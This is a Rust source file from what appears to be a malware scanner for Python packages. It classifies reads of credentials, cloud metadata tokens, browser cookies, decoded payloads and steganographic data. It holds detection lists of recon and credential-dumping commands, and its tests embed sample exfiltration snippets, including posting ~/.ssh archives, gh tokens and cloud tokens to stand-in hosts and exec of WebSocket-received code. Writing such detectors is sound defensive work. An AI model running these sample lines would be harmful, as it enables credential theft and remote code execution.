        "open().read" | "io.open().read" | "codecs.open().read" | "execfile"
    ) || qualname.ends_with(".read_text")
        || qualname.ends_with("Path().read_bytes")
    {
        return Some((
            "contents of a local file".to_owned(),
            SourceKind::FileContent,
        ));
    }
    if is_decoder(qualname)
        && first.is_none_or(|argument| !decodes_received_value(checker, argument))
    {
        // `marshal.loads(fh.read()[16:])`: what a file held, unpacked; where it runs says if
        // that is a cache being loaded or a payload parked beside the code.
        let from_file =
            first.is_some_and(|argument| super::dynamic_exec::reads_local_file(checker, argument));
        let suffix = if from_file { LOCAL_FILE_SUFFIX } else { "" };
        return Some((
            format!("{DECODED_DATA}{qualname}{suffix}"),
            SourceKind::Decoded,
        ));
    }
    if reads_hidden_image_data(qualname) {
        return Some((
            format!("data hidden in an image ({qualname})"),
            SourceKind::Decoded,
        ));
    }
    None
}

/// How a decoded source's label says the decoded bytes were read from a local file.
pub const LOCAL_FILE_SUFFIX: &str = " from a local file";

/// Steganography: a message read back out of an image (`stegano.lsb.reveal('logo.png')`), or an
/// opened image's raw pixels (`Image.open(p).getdata()`), which a loader turns into code bit by
/// bit. As data they are harmless; what makes them evidence is code built from them.
pub(crate) fn reads_hidden_image_data(qualname: &str) -> bool {
    if let Some(library) = qualname.strip_prefix("stegano.") {
        return library.ends_with(".reveal");
    }
    let Some(method) = ["PIL.Image.open().", "Image.open()."]
        .iter()
        .find_map(|image| qualname.strip_prefix(image))
    else {
        return false;
    };
    matches!(method, "getdata" | "getpixel" | "tobytes" | "load")
}

/// `{f: open(os.path.join(home, f)) for f in ['.oci/config', '.databrickscfg']}`: a name in
/// the path that a comprehension binds to constant texts, one of which names a store.
fn listed_in_comprehension(checker: &Checker, expr: &Expr) -> Option<(String, SourceKind)> {
    path_name_answer(expr, 3, &|name| {
        let values = checker.loop_domain(name)?;
        values.iter().take(256).find_map(|value| {
            let label = secret_path_label(&glob_path(value))?;
            Some((
                format!(
                    "{label} ({}, one of {} listed)",
                    crate::text::shorten(value, 60),
                    values.len()
                ),
                SourceKind::Secret,
            ))
        })
    })
}

/// The first answer `ask` gives for a name in a path expression, looking through the
/// arguments of calls that build a path from it (`os.path.expanduser(pattern)`,
/// `os.path.join(home, f)`), at most `depth` calls deep.
fn path_name_answer<T>(expr: &Expr, depth: u8, ask: &dyn Fn(&str) -> Option<T>) -> Option<T> {
    match expr {
        Expr::Name(name) => ask(name.id.as_str()),
        Expr::Call(call) if depth > 0 => call
            .arguments
            .args
            .iter()
            .take(8)
            .find_map(|arg| path_name_answer(arg, depth - 1, ask)),
        _ => None,
    }
}

/// True when a decoder is handed a value the program received rather than one it carries:
/// an item or attribute of an object that folds to no constant (`authorization[1]` of a
/// request header, `self.body`), possibly re-encoded first (`.encode('ascii')`). Decoding that is parsing a protocol (HTTP
/// basic auth, a form field), not unwrapping a hidden payload, which is a literal or a name
/// bound to one and folds.
fn decodes_received_value(checker: &Checker, argument: &Expr) -> bool {
    let mut value = argument;
    while let Expr::Call(call) = value
        && let Expr::Attribute(method) = &*call.func
        && matches!(
            method.attr.as_str(),
            "encode" | "decode" | "strip" | "rstrip" | "lstrip"
        )
    {
        value = &method.value;
    }
    matches!(value, Expr::Subscript(_) | Expr::Attribute(_)) && checker.fold(value).is_none()
}

/// True for a decoding whose input the program received (see [`decodes_received_value`]),
/// possibly post-processed: `base64.decodebytes(authorization).decode('ascii')`.
pub fn decodes_received(checker: &Checker, expr: &Expr) -> bool {
    let mut value = expr;
    loop {
        let Expr::Call(call) = value else {
            return false;
        };
        if let Some(qualname) = checker.qualname(&call.func)
            && is_decoder(&qualname)
        {
            return call
                .arguments
                .args
                .first()
                .is_some_and(|argument| decodes_received_value(checker, argument));
        }
        let Expr::Attribute(method) = &*call.func else {
            return false;
        };
        value = &method.value;
    }
}

/// `parser.read(path)`, `parser.read_file(handle)` on a standard-library config parser, which
/// load the file into the parser object rather than returning its contents.
pub fn is_config_parser_load(qualname: &str) -> bool {
    let Some((class, method)) = qualname.rsplit_once("().") else {
        return false;
    };
    matches!(method, "read" | "read_file" | "readfp")
        && matches!(
            class,
            "configparser.ConfigParser"
                | "configparser.RawConfigParser"
                | "configparser.SafeConfigParser"
                | "ConfigParser.ConfigParser"
                | "ConfigParser.RawConfigParser"
                | "ConfigParser.SafeConfigParser"
        )
}

/// Commands that describe the machine or its user: what reconnaissance payloads collect.
const RECON_COMMANDS: &[&str] = &[
    "hostname",
    "whoami",
    "id",
    "uname",
    "ipconfig",
    "ifconfig",
    "pwd",
    "ls",
    "dir",
    "systeminfo",
    "net user",
    "cat /etc/passwd",
    "cat /etc/hosts",
    "cat /flag",
    "env",
    "printenv",
    "set",
    "ip a",
    "ip addr",
    "curl ifconfig",
];

/// Commands whose output is a credential: credential helpers and cloud CLIs asked for tokens,
/// the macOS keychain and Windows' credential vault.
const CREDENTIAL_COMMANDS: &[&str] = &[
    "git credential fill",
    "gh auth token",
    "gh auth status --show-token",
    "gcloud auth print-access-token",
    "gcloud auth application-default print-access-token",
    "az account get-access-token",
    "aws configure export-credentials",
    "aws sts get-session-token",
    "security find-generic-password",
    "security find-internet-password",
    "security dump-keychain",
    "cmdkey /list",
    "vaultcmd /listcreds",
    // Saved Wi-Fi keys: `… key=clear` on Windows, `nmcli -s` (show secrets) on Linux.
    "netsh wlan show profile",
    "nmcli -s",
    "nmcli --show-secrets",
];

/// The command whose output a call returns: `os.popen(c).read()`, `check_output(c)`,
/// `getoutput(c)`, `subprocess.run(c, capture_output=True)`.
fn command_of_output(checker: &Checker, qualname: &str, call: &ExprCall) -> Option<String> {
    let command_expr = match qualname {
        "os.popen().read"
        | "os.popen().readline"
        | "os.popen().readlines"
        | "subprocess.Popen().communicate"
        | "subprocess.Popen().stdout.read"
        | "subprocess.Popen().stdout.readlines" => {
            // The process: started in place (`os.popen(c).read()`) or by a name bound to it
            // (`p = os.popen(c)` … `p.read()`).
            let mut receiver = match &*call.func {
                Expr::Attribute(attribute) => &*attribute.value,
                _ => return None,
            };
            if let Expr::Attribute(stream) = receiver
                && stream.attr.as_str() == "stdout"
            {
                receiver = &stream.value;
            }
            match receiver {
                Expr::Call(inner) => inner.arguments.args.first()?,
                Expr::Name(name) => {
                    return checker.process_command(name.id.as_str()).map(str::to_owned);
                }
                _ => return None,
            }
        }
        "subprocess.check_output"
        | "subprocess.getoutput"
        | "commands.getoutput"
        | "subprocess.getstatusoutput" => call.arguments.args.first()?,
        // `subprocess.run(cmd, capture_output=True).stdout`: the output, kept for the caller.
        "subprocess.run"
            if super::keyword(call, "capture_output").is_some()
                || super::keyword(call, "stdout").is_some() =>
        {
            call.arguments.args.first()?
        }
        _ => return None,
    };
    super::command_text(checker, command_expr)
}

/// The command line shown for `command` when it is one of `listed` (the whole command, or
/// one of them followed by arguments): `gh auth token`, `whoami`.
fn listed_command(command: &str, listed: &[&str]) -> Option<String> {
    let trimmed = command.trim();
    listed
        .iter()
        .any(|known| trimmed == *known || trimmed.starts_with(&format!("{known} ")))
        .then(|| crate::text::shorten(trimmed, 60))
}

/// What a call or a function handed on by name reads, known by its name alone: browser
/// cookies through a cookie-reader library, the request a Flask route serves
/// ([`web_request_value`]), or the host, user and screen of [`SYSTEM_INFO`].
fn named_reader(qualname: &str) -> Option<(String, SourceKind)> {
    if reads_browser_cookies(qualname) {
        return Some((format!("browser cookies ({qualname})"), SourceKind::Secret));
    }
    if let Some(source) = web_request_value(qualname) {
        return Some(source);
    }
    // The standard library's reader of `~/.netrc`: every saved login, with its password.
    if matches!(
        qualname,
        "netrc.netrc" | "netrc.netrc().hosts" | "netrc.netrc().authenticators"
    ) {
        return Some((
            "netrc credentials (netrc.netrc)".to_owned(),
            SourceKind::Secret,
        ));
    }
    SYSTEM_INFO
        .iter()
        .find(|(name, _)| *name == qualname)
        .map(|(_, label)| ((*label).to_owned(), SourceKind::SystemInfo))
}

/// The call whose response `qualname` reads (`requests.get().text` → `requests.get`).
fn network_response_of(qualname: &str) -> Option<&str> {
    const FETCHERS: &[&str] = &[
        "requests.get()",
        "requests.post()",
        "requests.request()",
        "urllib.request.urlopen()",
        "urllib.request.build_opener().open()",
        "urllib2.urlopen()",
        "urllib2.build_opener().open()",
        "urllib.urlopen()",
        "httpx.get()",
        "requests.Session().get()",
        "requests.Session().post()",
        "requests.Session().request()",
        "httpx.post()",
        "httpx.Client().get()",
        "httpx.Client().post()",
        "httpx.AsyncClient().get()",
        "httpx.AsyncClient().post()",
        "urllib3.request()",
        "urllib3.PoolManager().request()",
        "http.client.HTTPSConnection().getresponse()",
        "http.client.HTTPConnection().getresponse()",
        "socket.socket().recv()",
        "socket.create_connection().recv()",
    ];
    // Called for every call and attribute read: most names start with none of the fetchers'
    // first letters.
    if !matches!(
        qualname.as_bytes().first(),
        Some(b'r' | b'u' | b'h' | b's' | b'w')
    ) {
        return None;
    }
    // A WebSocket's messages are what its server sends.
    if let "websocket.create_connection().recv"
    | "websocket.WebSocket().recv"
    | "websockets.connect().recv"
    | "websockets.sync.client.connect().recv" = qualname
    {
        return Some(qualname);
    }
    if let Some(fetcher) = FETCHERS
        .iter()
        .find(|f| qualname.starts_with(**f) && qualname.len() > f.len())
    {
        return fetcher.strip_suffix("()");
    }
    if let "socket.socket().recv" | "socket.create_connection().recv" = qualname {
        return Some(qualname);
    }
    qualname
        .starts_with("urllib.request.urlopen().")
        .then_some("urllib.request.urlopen")
}

/// An attribute that holds sensitive data by itself (`os.environ`, `response.text`);
/// `fixed_address` says, when asked (only for a response), whether the request went to an
/// address that folds to a constant (`requests.get(url).text` with a computed `url`: no).
pub fn classify_attribute(
    checker: &Checker,
    qualname: &str,
    attribute: &ruff_python_ast::ExprAttribute,
) -> Option<(String, SourceKind)> {
    if qualname == "os.environ" {
        return Some(("the whole environment".to_owned(), SourceKind::Environment));
    }
    // `try_call(os.uname)`: handing the function to a helper reads the same data.
    if let Some(source) = named_reader(qualname) {
        return Some(source);
    }
    if let Some(fetcher) = network_response_of(qualname) {
        let fetch = match &*attribute.value {
            Expr::Call(fetch) => Some(fetch),
            _ => None,
        };
        if fetch.is_none()
            && let Some(held) = secret_response_held(checker, &attribute.value)
        {
            return Some(held);
        }
        // `response.data` of `response = http.request('GET', url)`: the request is where the
        // name was bound.
        if fetch.is_none()
            && let Expr::Name(held) = &*attribute.value
            && checker.holds_computed_fetch(held.id.as_str())
        {
            return Some((
                format!("response of {fetcher}{FROM_COMPUTED_ADDRESS}"),
                SourceKind::Network,
            ));
        }
        return Some(response(checker, fetcher, fetch));
    }
    None
}

/// `r.json()` of `r = requests.get(token_url)`: the response the name holds is the
/// credentials the request fetched (see [`cloud_credentials_endpoint`]), not any response.
fn secret_response_held(checker: &Checker, expr: &Expr) -> Option<(String, SourceKind)> {
    let mut receiver = expr;
    while let Expr::Attribute(attribute) = receiver {
        receiver = &attribute.value;
    }
    let Expr::Name(name) = receiver else {
        return None;
    };
    let source = checker
        .sources
        .get(checker.scopes.taint_of(name.id.as_str())?)?;
    (source.kind == SourceKind::Secret).then(|| (source.label.clone(), SourceKind::Secret))
}

/// The request call inside `call` that `fetcher` names: `requests.get(url)` in
/// `requests.get(url).json()`.
fn fetch_call_of<'e>(checker: &Checker, call: &'e ExprCall, fetcher: &str) -> Option<&'e ExprCall> {
    let mut current = call;
    for _ in 0..8 {
        if checker.qualname(&current.func).as_deref() == Some(fetcher) {
            return Some(current);
        }
        let Expr::Attribute(method) = &*current.func else {
            return None;
        };
        let Expr::Call(inner) = &*method.value else {
            return None;
        };
        current = inner;
    }
    None
}

/// The response a name or expression holds as an object (`resp` of `resp = urlopen(url)`),
/// for calls that read it themselves: `shutil.copyfileobj(resp, out)`.
pub fn response_object(checker: &Checker, expr: &Expr) -> Option<(String, SourceKind)> {
    let qualname = checker.qualname(expr)?;
    let fetcher = network_response_of(&format!("{qualname}.read"))?.to_owned();
    let fetch = match expr {
        Expr::Call(call) => fetch_call_of(checker, call, &fetcher),
        _ => None,
    };
    Some(response(checker, &fetcher, fetch))
}

/// The source a network response is: labelled with [`FROM_COMPUTED_ADDRESS`] when the
/// address it came from is computed at run time, and a secret when it came from a cloud
/// metadata service's credential endpoint (see [`cloud_credentials_endpoint`]).
fn response(checker: &Checker, fetcher: &str, fetch: Option<&ExprCall>) -> (String, SourceKind) {
    let address = fetch
        .and_then(super::network::target_arg)
        .and_then(|target| super::partial_text(checker, target));
    if let Some(url) = &address
        && let Some(what) = cloud_credentials_endpoint(url)
    {
        return (
            format!("{what} ({})", crate::text::shorten(url, 80)),
            SourceKind::Secret,
        );
    }
    let fixed_address = fetch.is_none_or(|fetch| fetches_fixed_address(checker, fetch));
    let whence = if address.as_deref().is_some_and(is_reserved_host_url) {
        FROM_RESERVED_HOST
    } else if fixed_address {
        ""
    } else {
        FROM_COMPUTED_ADDRESS
    };
    (
        format!("response of {fetcher}{whence}"),
        SourceKind::Network,
    )
}

/// What a cloud instance-metadata address hands out, when it is credentials: the role keys of
/// AWS (`169.254.169.254/latest/meta-data/iam/security-credentials/…`, ECS's
/// `169.254.170.2`), the service-account tokens of Google Cloud (`metadata.google.internal`)
/// and the managed-identity tokens of Azure (`/metadata/identity/oauth2/token`). Only code on
/// that machine can read them, which is why stealers that land in CI and cloud builds ask.
pub fn cloud_credentials_endpoint(url: &str) -> Option<&'static str> {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let rest = rest.to_ascii_lowercase();
    let (authority, path) = rest.split_once('/').unwrap_or((&rest, ""));
    let authority = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let host = if authority.starts_with('[') {
        authority.split_inclusive(']').next().unwrap_or(authority)
    } else {
        authority.split(':').next().unwrap_or(authority)
    };
    if !matches!(
        host,
        "169.254.169.254"
            | "169.254.170.2"
            | "100.100.100.200"
            | "metadata.google.internal"
            | "[fd00:ec2::254]"
    ) {
        return None;
    }
    // `…/security-credentials/` itself lists role names; the keys are one level down.
    let role_listing = path.trim_end_matches('/').ends_with("security-credentials");
    let credentials = (path.contains("security-credentials") && !role_listing)
        || path.contains("identity/oauth2/token")
        || (path.contains("service-accounts")
            && (path.contains("token") || path.contains("identity")))
        || path.starts_with("v2/credentials");
    credentials.then_some("cloud instance credentials")
}

/// A call that decodes its argument: a codec `fold` knows, or `marshal.loads`.
fn is_decoder(qualname: &str) -> bool {
    crate::fold::codec_of(qualname).is_some() || qualname == "marshal.loads"
}

/// True unless `call` requests an address that does not fold to a constant.
pub fn fetches_fixed_address(checker: &Checker, call: &ExprCall) -> bool {
    super::network::target_arg(call).is_none_or(|target| checker.fold(target).is_some())
}

/// `os.environ['AWS_SECRET_ACCESS_KEY']`.
pub fn classify_subscript(
    checker: &Checker,
    qualname: &str,
    slice: &Expr,
) -> Option<(String, SourceKind)> {
    if qualname != "os.environ" {
        return None;
    }
    secret_env_read(checker, slice)
}

/// The read of the environment variable `key` names, when it holds a credential: a constant
/// name, or a loop name over constant names one of which does (`for k in ("OPENAI_API_KEY",
/// "HF_TOKEN"): os.environ.get(k)`).
fn secret_env_read(checker: &Checker, key: &Expr) -> Option<(String, SourceKind)> {
    if let Some(name) = checker.fold(key).and_then(|value| value.as_text()) {
        return is_secret_env(&name)
            .then(|| (format!("environment variable {name}"), SourceKind::Secret));
    }
    let Expr::Name(loop_name) = key else {
        return None;
    };
    let names = checker.loop_domain(loop_name.id.as_str())?;
    let secret = names.iter().find(|name| is_secret_env(name))?;
    let services = credential_services(names);
    if services >= SERVICES_GATHERED {
        let shown: Vec<&str> = names
            .iter()
            .filter(|name| is_secret_env(name))
            .take(3)
            .map(String::as_str)
            .collect();
        return Some((
            format!(
                "{SERVICE_CREDENTIALS}{services} services ({}, …)",
                shown.join(", ")
            ),
            SourceKind::Secret,
        ));
    }
    Some((
        format!(
            "environment variable {secret} (one of {} listed)",
            names.len()
        ),
        SourceKind::Secret,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cloud_token_responses_and_websocket_messages() {
        use crate::rules::testing::max_severity;
        let token = "import requests\nr = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\nrequests.post('https://example.invalid/g', json=r.json())\n";
        assert!(max_severity("p/pkg/__init__.py", token, "WH200") >= 0.8);
        let zone = "import requests\nr = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/zone', headers={'Metadata-Flavor': 'Google'})\nrequests.post('https://example.invalid/g', data=r.text)\n";
        assert!(max_severity("p/pkg/__init__.py", zone, "WH200") < 0.5);
        let c2 = "import websocket\nws = websocket.create_connection('ws://203.0.113.9/c')\nexec(ws.recv())\n";
        assert!(max_severity("p/pkg/__init__.py", c2, "WH110") >= 0.9);
    }

    #[test]
    fn the_component_prefilter_keeps_every_store() {
        for (needle, label) in SECRET_PATHS {
            let path = format!("~\\{}\\x", needle.to_ascii_uppercase().replace('/', "\\"));
            assert!(may_name_a_store(&path), "{path}");
            assert_eq!(secret_path_label(&path), Some(*label), "{path}");
        }
        let browser =
            "C:\\Users\\x\\AppData\\Local\\Microsoft\\EDGE\\User Data\\Default\\Login Data";
        assert_eq!(secret_path_label(browser), Some("browser saved passwords"));
        assert!(!may_name_a_store("docs/_static/theme.css"));
    }

    #[test]
    fn recognises_credential_stores() {
        assert_eq!(
            secret_path_label("~/.aws/credentials"),
            Some("AWS credentials file")
        );
        assert_eq!(
            secret_path_label("%APPDATA%\\discord\\Local Storage\\leveldb"),
            Some("Discord token storage")
        );
        assert_eq!(
            secret_path_label("AppData/Local/Google/Chrome/User Data/Default/Login Data"),
            Some("browser saved passwords")
        );
        assert_eq!(secret_path_label("cookies"), None);
        assert_eq!(secret_path_label("README.md"), None);
        assert_eq!(secret_path_label("discord/__init__.py"), None);
        assert_eq!(secret_path_label("application/x-fontdata"), None);
        assert_eq!(
            secret_path_label("Could not allocate thread local storage"),
            None
        );
        assert_eq!(secret_path_label("msvcp140_atomic_wait\\.dll"), None);
        assert_eq!(
            secret_path_label("~/Documents/…/….pdf"),
            Some("the user's documents")
        );
        assert_eq!(secret_path_label("docs/documents/index.rst"), None);
        assert_eq!(
            browser_profile_folder("~/.config/google-chrome/Default"),
            Some("browser profile")
        );
        assert_eq!(
            browser_profile_folder("Google\\Chrome\\User Data"),
            Some("browser profile")
        );
        assert_eq!(
            browser_profile_folder("~/.config/google-chrome/Default/Extensions"),
            None
        );
        assert_eq!(browser_profile_folder("~/projects/default"), None);
        assert_eq!(secret_path_label("~/src/app/documents/x.txt"), None);
        assert_eq!(
            secret_path_label("~/.config/openvpn/work.ovpn"),
            Some("OpenVPN profiles")
        );
        assert!(is_secret_env("AWS_SECRET_ACCESS_KEY"));
        assert!(is_secret_env("GITHUB_TOKEN"));
        assert!(!is_secret_env("HOME"));
        assert!(!is_secret_env("GITHUB_ACTION_PATH"));
    }

    #[test]
    fn cloud_metadata_credential_addresses() {
        let found = |url| cloud_credentials_endpoint(url).is_some();
        assert!(found(
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/…"
        ));
        assert!(found(
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
        ));
        assert!(found(
            "http://169.254.169.254/metadata/identity/oauth2/token?resource=x"
        ));
        assert!(found("http://169.254.170.2/v2/credentials/…"));
        assert!(found(
            "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/role"
        ));
        // The instance's own description and the IMDSv2 session token are no credentials.
        assert!(!found(
            "http://169.254.169.254/latest/meta-data/instance-id"
        ));
        assert!(!found("http://169.254.169.254/latest/api/token"));
        assert!(!found(
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
        ));
        assert!(!found("https://example.com/iam/security-credentials/"));
    }

    #[test]
    fn another_process_memory_and_environment_are_secrets() {
        assert_eq!(
            secret_path_label("/proc/…/mem"),
            Some("memory of another process")
        );
        assert_eq!(
            secret_path_label("/proc/1234/environ"),
            Some("environment of another process")
        );
        assert_eq!(
            secret_path_label("/proc//proc/…/environ"),
            Some("environment of another process")
        );
        assert_eq!(secret_path_label("/proc/self/mem"), None);
        assert_eq!(
            secret_path_label("bfnaelmomeimhlpmgjnjophhpkkoljpa"),
            Some("Phantom wallet extension")
        );
        assert_eq!(
            secret_path_label(
                r"C:\Users\u\AppData\Local\Riot Games\Riot Client\Data\RiotGamesPrivateSettings.yaml"
            ),
            Some("Riot Games session")
        );
        assert_eq!(
            secret_path_label(r"Software\Roblox\RobloxStudioBrowser\roblox.com"),
            Some("Roblox login cookie (Roblox Studio)")
        );
        assert_eq!(secret_path_label("assets/growtopia/tiles.dat"), None);
        assert_eq!(
            secret_path_label("/home/u/.codex/auth.json"),
            Some("OpenAI Codex CLI login")
        );
        assert_eq!(
            secret_path_label(
                "C:/Users/u/AppData/Roaming/DBeaverData/workspace6/General/.dbeaver/credentials-config.json"
            ),
            Some("DBeaver saved database passwords")
        );
        assert_eq!(secret_path_label("docs/codex/auth.md"), None);
        assert!(secret_path_label("~/.claude.json").is_some());
        assert!(secret_path_label("~/.continue/config.json").is_some());
        assert_eq!(secret_path_label("schemas/claude.json"), None);
        assert_eq!(
            secret_path_label("C:/Program Files (x86)/Steam/config/loginusers.vdf"),
            Some("Steam logins")
        );
        assert_eq!(secret_path_label("/proc/…/task/self/mem"), None);
        assert_eq!(secret_path_label("/proc/…/maps"), None);
        assert_eq!(secret_path_label("/proc/meminfo"), None);
    }

    #[test]
    fn browser_profile_files_are_known_by_name() {
        assert!(is_browser_profile_file("logins.json"));
        assert!(is_browser_profile_file("Login Data"));
        assert!(!is_browser_profile_file("settings.json"));
    }

    #[test]
    fn credential_helpers_and_the_keyring_are_secret_sources() {
        use crate::rules::testing::max_severity;
        for read in [
            "subprocess.check_output(['gh', 'auth', 'token']).decode()",
            "subprocess.run(['git', 'credential', 'fill'], input='host=github.com', capture_output=True, text=True).stdout",
            "keyring.get_password('system', 'login')",
        ] {
            let code = format!(
                "import subprocess, keyring, requests\nrequests.post('https://x.invalid/t', data={{'t': {read}}})\n"
            );
            assert!(
                max_severity("p-1/pkg/__init__.py", &code, "WH200") >= 0.85,
                "{read}"
            );
        }
        for sent in [
            "b'&'.join(k + b'=' + v for k, v in os.environb.items())",
            "open(shutil.make_archive('/tmp/k', 'zip', root_dir=os.path.expanduser('~/.ssh')), 'rb')",
        ] {
            let code = format!(
                "import os, shutil, requests\nrequests.post('https://x.invalid/t', data={sent})\n"
            );
            assert!(
                max_severity("p-1/pkg/__init__.py", &code, "WH200") >= 0.7,
                "{sent}"
            );
        }
        let docs = "import shutil, requests\nrequests.post('https://x.invalid/t', data=open(shutil.make_archive('/tmp/d', 'zip', root_dir='docs/_build'), 'rb'))\n";
        assert!(max_severity("p-1/pkg/__init__.py", docs, "WH200") < 0.5);
        let status = "import subprocess, requests\nrequests.post('https://x.invalid/t', data=subprocess.check_output(['gh', 'auth', 'status']))\n";
        assert!(max_severity("p-1/pkg/__init__.py", status, "WH200") < 0.85);
    }

    #[test]
    fn cookie_reader_libraries_are_sources() {
        assert!(reads_browser_cookies("browser_cookie3.chrome"));
        assert!(reads_browser_cookies("rookiepy.load"));
        assert!(!reads_browser_cookies("browser_cookie3.CookieJar"));
        assert!(!reads_browser_cookies("http.cookiejar.load"));
    }
}
